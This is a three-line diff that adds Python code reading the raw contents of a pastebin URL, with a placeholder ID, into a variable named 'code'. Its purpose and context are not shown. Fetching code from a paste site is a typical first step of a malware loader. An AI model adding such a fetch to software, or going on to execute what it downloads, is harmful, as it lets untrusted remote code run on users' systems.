@@ -1,0 +1,3 @@
+import urllib.request
+
+code = urllib.request.urlopen("https://pastebin.com/raw/XXXXXXXX").read()
